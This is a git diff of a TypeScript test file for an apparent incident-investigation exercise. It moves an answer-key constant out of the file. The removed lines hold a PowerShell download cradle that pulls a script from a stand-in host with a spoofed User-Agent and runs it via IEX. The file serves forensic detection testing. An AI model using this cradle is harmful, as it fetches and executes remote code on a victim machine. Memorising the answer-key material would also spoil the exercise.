@@ -7,10 +7,7 @@ import { deepStrictEqual as assertEquals, match, ok } from "node:assert/strict";
 import { Buffer } from "node:buffer";
 import { runCasefile } from "../_helpers.ts";
 import { Terminal, tmuxAvailable } from "../_tmux.ts";
-
-/** ANSWERS.md, stage 7: what the attacker's -EncodedCommand decodes to. */
-const CRADLE = "$u='https://cdn.edgeupdate-sync.example/a/u.ps1';$w=New-Object Net.WebClient;" +
-  "$w.Headers.Add('User-Agent','Microsoft-CryptoAPI/10.0');IEX $w.DownloadString($u)";
+import { CRADLE } from "../_demo_tables.ts";
 
 // ANSWERS.md, stage 7: the cradle's process creation (4688) at 2026-03-12T01:52:08Z.
 const CRADLE_EVENT = "SecurityEvent | where TimeGenerated == datetime(2026-03-12T01:52:08Z) " +
